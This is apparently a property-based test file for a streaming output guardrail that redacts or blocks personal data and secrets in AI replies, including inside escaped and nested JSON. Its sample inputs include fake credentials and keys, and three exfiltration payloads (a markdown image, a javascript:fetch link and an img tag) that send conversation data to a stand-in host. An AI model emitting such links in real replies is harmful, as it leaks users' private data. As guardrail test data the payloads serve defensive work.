import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createInMemoryJournal } from '../../src/adapters/in-memory/journal.ts';
import { isTelephone } from '../../src/adapters/phone/is-telephone.ts';
import type { JsonObject, JsonValue } from '../../src/core/json.ts';
import { createDefaultPipeline } from '../../src/domain/guardrails/default-pipeline.ts';
import { readableLength, readEscapes } from '../../src/domain/guardrails/normalisation/json-reading.ts';
import { DEFAULT_POLICY, type Policy } from '../../src/domain/guardrails/policy/policy.ts';
import { redact } from '../../src/domain/guardrails/redaction/redact.ts';
import type { Action, GuardPart, GuardPipeline } from '../../src/ports/guard.ts';
import { fc, LONGEST_MS } from '../draws.ts';
import { createCountingIds, createManualClock } from '../fixtures/manual-system.ts';
import { ask, eventsOf, guardService, listed } from './guard-service.ts';
import { chunksOf, FIELDS, framings, overTheWire, placeOf, received, type Field, type Framing, type Written } from './split-streams.ts';

/** Random replies of each kind. */
const RUNS = 4000;

const system = { clock: createManualClock(), ids: createCountingIds(), isTelephone };

const OWN = [
  { name: 'employee_id', pattern: String.raw`\bEMP-\d{6}\b` },
  { name: 'case_number', pattern: String.raw`(?<![\w-])C/\d{4}/[a-z]{1,8}`, ignoreCase: true },
  { name: 'customer', pattern: String.raw`\b\d{5}\b`, context: ['customer'] },
];

/** The default policy with one action for everything its checks find in a reply. */
function policyWith(action: Action): Policy {
  const rules = [{ direction: 'output' as const, channels: ['user' as const], steps: [{ threshold: 0.5, action }] }];
  const lists = [{ name: 'project', phrases: ['Blue Heron', 'wintermute', '青い鷺'] }];
  const phrases = { detector: 'phrases', fail: 'closed' as const, trustedRoles: [], settings: { lists }, rules };
  const settings = { patterns: OWN };
  const patterns = { detector: 'patterns', fail: 'closed' as const, trustedRoles: [], settings, rules };
  return { ...DEFAULT_POLICY, checks: [...DEFAULT_POLICY.checks.map((check) => ({ ...check, rules })), phrases, patterns] };
}

const PRIVATE_KEY = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEAx3vR9Zb0Qk1yTq8cW\n'.repeat(10)}-----END RSA PRIVATE KEY-----`;
const PUTTY_KEY = `PuTTY-User-Key-File-2: ssh-rsa\nPrivate-Lines: 8\n${'AAAAgQDx3vR9Zb0Qk1yTq8cW\n'.repeat(8)}Private-MAC: 0123456789abcdef`;
const TOKEN = `eyJhbGciOiJIUzI1NiJ9.${'eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0'.repeat(6)}.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U`;

const finding = fc.constantFrom(
  '4111 1111 1111 1111',
  '3782-822463-10005',
  'jo.bloggs@mail.example.org',
  'IBAN GB82 WEST 1234 5698 7654 32.',
  'DE89370400440532013000',
  'NL91 ABNA 0417 1643 00',
  'Call +44 20 7946 0958 now',
  'phone (415) 555-2671',
  'SSN 536-22-1234',
  '536221234 is my SSN',
  'born on 12 January 1980',
  'Aadhaar: 2341 2341 2346',
  'NHS 943 476 5919',
  'AB 12 34 56 C',
  '192.168.10.44',
  '2001:db8:85a3::8a2e:370:7334',
  '00:1b:44:11:3a:b7',
  '0x52908400098527886E0F7030069857D2E4169EE7',
  'password: Tr0ub4dor&3x!',
  'password is now: hunter2Blue!77',
  'api_key = "q7Zp2Lw9Xc4Rt6Yb1Nm8Vk3Hs5Jd0Fg"',
  'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
  'sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5q',
  'AKIAIOSFODNN7QRSTUVW',
  'postgres://admin:s3cr3tPa55@db.internal:5432/app',
  'Authorization: Bearer abcDEF123456ghiJKL789012mnoPQR345678',
  PRIVATE_KEY,
  PUTTY_KEY,
  TOKEN,
  'the Blue-Heron files',
  'blue   héron',
  'WINTERMUTE',
  '私の青い鷺です',
  'EMP-123456',
  'EMP-１２３４５６',
  'c/2024/abcd',
  'customer 12345',
  '54321 is the customer',
  '![a](https://collect.example/i.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIGNvbnZlcnNhdGlvbg)',
  '[here](javascript:fetch("https://collect.example"))',
  '<img src="https://collect.example/p?q=my+private+question+about+health">',
);
const filler = fc.oneof(
  fc.constantFrom(
    ' ',
    ', ',
    '. ',
    '-',
    '@',
    ' 12 ',
    '4',
    '\n',
    'é',
    '😀',
    '𝟜',
    'a.b',
    'number',
    ' the key ',
    '_',
    '\u00a0',
    '\u200b',
    '"',
    '\\',
  ),
  fc.string({ unit: 'grapheme', maxLength: 10 }),
  fc.constantFrom('Here is what you asked for ', 'and it was sent on Thursday to the office ', 'in 2024, '),
);
const apart = fc.constantFrom(' ', '\n', ' "', ', ', ' (', '\t');
const text = fc
  .array(
    fc.oneof({ weight: 3, arbitrary: filler }, { weight: 1, arbitrary: fc.tuple(apart, finding, apart).map((pieces) => pieces.join('')) }),
    { maxLength: 10 },
  )
  .map((pieces) => pieces.join(''));
const texts: fc.Arbitrary<readonly Written[]> = fc.uniqueArray(
  fc.record({
    choice: fc.constantFrom(0, 0, 1),
    field: fc.constantFrom(...FIELDS),
    text,
    cuts: fc.array(fc.nat(), { maxLength: 20 }),
  }),
  { minLength: 1, maxLength: 3, selector: ({ choice, field }) => `${choice} ${field}` },
);

/** What no reply may say, whatever stands beside it; digits beside a card number make another number of it. */
const UNTOUCHED = /4111111111111111|jo\.bloggs|16C7e42F|EMP-123456/;

/** A guard that is asked one reply after the other. */
function guardOver(pipeline: GuardPipeline) {
  let chunks = (): AsyncIterable<JsonObject> => listed([]);
  const service = guardService({ chunks: () => chunks() }, { deps: { pipeline, journal: createInMemoryJournal({ capacity: 10 }) } });
  return async (written: readonly Written[], framing: Framing): Promise<JsonValue[]> => {
    chunks = () => overTheWire(chunksOf(written, framing.order), framing);
    return eventsOf(await service.chat(ask('Hi', { stream: true })));
  };
}

/** What a text may be for the client at most: up to the first blocked span, and redacted. */
async function judged(pipeline: GuardPipeline, written: Written) {
  const { signal } = new AbortController();
  const part = (text: string): GuardPart => ({ id: placeOf(written), role: 'assistant', channel: 'user', text });
  const evaluate = (text: string) =>
    pipeline.evaluate({ requestId: 'r', direction: 'output', parts: [part(text)], unscanned: [] }, { signal });
  const { findings, rewrites } = await evaluate(written.text);
  const first = Math.min(...findings.filter(({ action }) => action === 'block').map(({ start }) => start));
  if (first === Infinity) return { isBlocked: false, text: rewrites[0]?.text ?? written.text };
  const before = findings.filter(({ action, end }) => action === 'redact' && end <= first);
  return { isBlocked: true, text: redact(written.text.slice(0, first), before) };
}

describe('a reply with findings in any of its texts, cut anywhere', () => {
  const redacting = createDefaultPipeline({ ...system, policy: policyWith('redact') });
  const blocking = createDefaultPipeline({ ...system, policy: policyWith('block') });

  const redacted = guardOver(redacting);
  const blocked = guardOver(blocking);
  const shipped = createDefaultPipeline(system);
  const decided = guardOver(shipped);

  it('reaches the client as the redaction of the whole', { timeout: LONGEST_MS }, async () => {
    await fc.assert(
      fc.asyncProperty(texts, framings, async (written, framing) => {
        const events = await redacted(written, framing);
        for (const one of written) assert.equal(received(events, one), (await judged(redacting, one)).text, placeOf(one));
      }),
      { numRuns: RUNS },
    );
  });

  for (const [name, pipeline, ask] of [
    ['everything is blocked', blocking, blocked],
    ['the shipped policy decides', shipped, decided],
  ] as const) {
    it(
      `gives the client nothing of a blocked span, and the redaction of what is before it, when ${name}`,
      { timeout: LONGEST_MS },
      async () => {
        await fc.assert(
          fc.asyncProperty(texts, framings, async (written, framing) => {
            const events = await ask(written, framing);
            const wholes = await Promise.all(written.map((one) => judged(pipeline, one)));
            const isBlocked = wholes.some((whole) => whole.isBlocked);
            for (const [index, one] of written.entries()) {
              const got = received(events, one);
              const { text: whole = '' } = wholes[index] ?? {};
              assert.ok(isBlocked ? whole.startsWith(got) : whole === got, `${placeOf(one)}: ${JSON.stringify([got, whole])}`);
            }
            assert.equal(JSON.stringify(events).includes('"finish_reason":"content_filter"'), isBlocked);
            assert.equal(events.at(-1), '[DONE]');
          }),
          { numRuns: RUNS * 0.75 },
        );
      },
    );
  }

  const value = fc.letrec<{ value: JsonValue }>((tie) => ({
    value: fc.oneof(
      { weight: 3, arbitrary: fc.tuple(text, fc.constantFrom('', '\n', '\t', '"', '\\')).map(([said, end]) => end + said + end) },
      fc.constantFrom(4_111_111_111_111_111, -4_111_111_111_111_111, 4111111111111.111, 536_221_234, 12, true, null),
      fc.array(tie('value'), { maxLength: 2 }),
      fc.dictionary(fc.constantFrom('card', 'note', 'to', 'password', '4111 1111 1111 1111'), tie('value'), { maxKeys: 2 }),
    ),
  })).value;
  const arguments_ = fc.record({
    field: fc.constantFrom<Field>('call 0', 'function_call', 'content'),
    plain: fc.record({ value, indent: fc.constantFrom(0, 2) }).map(({ value: said, indent }) => JSON.stringify({ said }, null, indent)),
    /** Which characters are written as escapes, over and over. */
    escapes: fc.array(fc.constantFrom('', '', 'u', 'U', '/'), { minLength: 1, maxLength: 9 }),
    cuts: fc.array(fc.nat(), { maxLength: 40 }),
  });

  it('keeps JSON valid, and has the same meaning however its characters are escaped', { timeout: LONGEST_MS }, async () => {
    await fc.assert(
      fc.asyncProperty(arguments_, framings, async ({ field, plain, escapes, cuts }, framing) => {
        const one: Written = { choice: 0, field, text: escaped(plain, escapes), cuts };
        const streamed = received(await redacted([one], framing), one);
        assert.equal(streamed, (await judged(redacting, one)).text);
        assert.deepEqual(JSON.parse(streamed), JSON.parse((await judged(redacting, { ...one, text: plain })).text));
        assert.doesNotMatch(JSON.stringify(JSON.parse(streamed)), UNTOUCHED);
      }),
      { numRuns: RUNS / 4 },
    );
  });

  it('hides nothing in JSON inside of JSON', { timeout: LONGEST_MS }, async () => {
    const nested = fc.tuple(fc.constantFrom(1, 2, 3), fc.array(fc.constantFrom('', '', 'u'), { minLength: 1, maxLength: 5 }));
    await fc.assert(
      fc.asyncProperty(arguments_, nested, framings, async ({ field, plain, escapes, cuts }, [levels, more], framing) => {
        let text = escaped(plain, escapes);
        for (let level = 0; level < levels; level += 1) text = escaped(JSON.stringify({ body: text }), more);
        const one: Written = { choice: 0, field, text, cuts };
        const streamed = received(await redacted([one], framing), one);
        assert.equal(streamed, (await judged(redacting, one)).text);
        let inside = JSON.parse(streamed) as { readonly body: string };
        for (let level = 1; level < levels; level += 1) inside = JSON.parse(inside.body) as { readonly body: string };
        // Of a number inside of a string the sign and what is behind the point stay; backslashes may belong to what is redacted.
        if (!/-4111|\.111|\\/.test(plain)) JSON.parse(inside.body);
        let said = streamed;
        for (let level = 0; level <= levels; level += 1) said = readEscapes(said).text;
        assert.doesNotMatch(said, UNTOUCHED);
      }),
      { numRuns: RUNS / 8, examples: [LONGER_ONCE_REPLACED, ESCAPE_BEHIND_A_TOKEN] },
    );
  });

  it('gives the client nothing of a blocked span, however its characters are written', { timeout: LONGEST_MS }, async () => {
    await fc.assert(
      fc.asyncProperty(arguments_, framings, async ({ field, plain, escapes, cuts }, framing) => {
        const one: Written = { choice: 0, field, text: escaped(plain, escapes), cuts };
        const events = await blocked([one], framing);
        const got = received(events, one);
        const whole = await judged(blocking, one);
        assert.ok(whole.isBlocked ? whole.text.startsWith(got) : whole.text === got, JSON.stringify([got, whole]));
        const said = (await judged(blocking, { ...one, text: plain })).text;
        assert.ok(readEscapes(said).text.startsWith(readEscapes(got.slice(0, readableLength(got))).text), JSON.stringify([got, said]));
      }),
      { numRuns: RUNS / 4 },
    );
  });
});

/** Arguments, in how many strings they stand and how these are written, and how they go over the wire. */
type Nested = [{ field: Field; plain: string; escapes: ('' | '/' | 'U' | 'u')[]; cuts: number[] }, [1 | 2 | 3, ('' | 'u')[]], Framing];

/** An address that turns out to be longer behind an escape, when its placeholder was sent. */
const LONGER_ONCE_REPLACED: Nested = [
  {
    field: 'call 0',
    plain:
      '{\n  "said": "\\\\\\nNL91 ABNA 0417 1643 00  (born on 12 January 1980, , 192.168.10.44 \\" \\"0x52908400098527886E0F7030069857D2E4169EE7 ( jo.bloggs@mail.example.org\\t  sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5q  \u{10000}\\\\"\n}',
    escapes: ['u', '', '', ''],
    cuts: [1480651584],
  },
  [2, ['', 'u']],
  { lineEnd: '\n', space: '', comments: false, cuts: [], order: [] },
];

/** A token before an escape, and far behind it, when its placeholder was sent, an escape that is escaped once more than the others. */
const ESCAPE_BEHIND_A_TOKEN: Nested = [
  {
    field: 'call 0',
    plain: JSON.stringify({ said: { card: ` \t${TOKEN}\t`, '4111 1111 1111 1111': '\\Here is what you asked for \\' } }, null, 2),
    escapes: [''],
    cuts: [1351995463],
  },
  [2, ['u', '']],
  { lineEnd: '\n', space: '', comments: false, cuts: [], order: [] },
];

/** The same JSON with characters of its strings written as escapes: kinds of escapes by turns. */
function escaped(json: string, kinds: readonly string[]): string {
  let turn = 0;
  return json.replaceAll(/"(?:[^"\\]|\\.)*"/gs, (string) => {
    const written = string.slice(1, -1).replaceAll(/\\u.{4}|\\.|./gs, (character) => {
      const kind = kinds[turn % kinds.length] ?? '';
      turn += 1;
      if (character.length > 1 || kind === '') return character;
      if (kind === '/') return character === '/' ? '\\/' : character;
      const code = character.charCodeAt(0).toString(16).padStart(4, '0');
      return `\\u${kind === 'U' ? code.toUpperCase() : code}`;
    });
    return `"${written}"`;
  });
}
